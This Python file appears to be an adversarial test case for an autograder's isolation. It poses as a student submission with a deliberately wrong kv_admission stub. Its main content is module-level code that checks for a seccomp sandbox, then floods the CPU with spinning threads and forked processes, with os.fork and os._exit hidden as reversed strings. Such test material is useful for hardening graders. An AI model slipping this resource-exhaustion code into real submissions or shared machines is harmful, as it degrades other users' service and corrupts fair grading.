# both of one student's boxes flood the CPU at once, graded first (its name sorts before the controls) so the classmate on the other slot is graded under it: the kernel forks 12 processes of 4 spinning threads and holds the cell 18 s, the judge's child spins 48 threads for 60 s (each box may take all cores but one: two boxes, the whole 2-core machine); kv_admission is wrong
# target: ex06_2
import operator
import os
import threading
import time


def kv_admission(prompt_len, max_new_tokens, free_blocks, num_blocks, block_size,
                 admission="reserve"):
    return "wait"


def _spin(until):
    x = 0
    while time.time() < until:
        x += 1


with open("/proc/self/status") as _f:
    _judged = any(line.split() == ["Seccomp:", "2"] for line in _f)
if _judged:
    _until = time.time() + 60
    for _ in range(48):
        threading.Thread(target=_spin, args=(_until,), daemon=True).start()
else:
    _t0 = time.time()
    for _ in range(12):
        try:
            _pid = operator.attrgetter("krof"[::-1])(os)()
        except OSError:
            break
        if _pid == 0:
            try:
                for _ in range(3):
                    threading.Thread(target=_spin, args=(_t0 + 600,)).start()
                _spin(_t0 + 600)
            finally:
                operator.attrgetter("tixe_"[::-1])(os)(0)
    print("12 spinning processes started at", time.strftime("%H:%M:%S"))
    while time.time() < _t0 + 18:
        time.sleep(0.5)
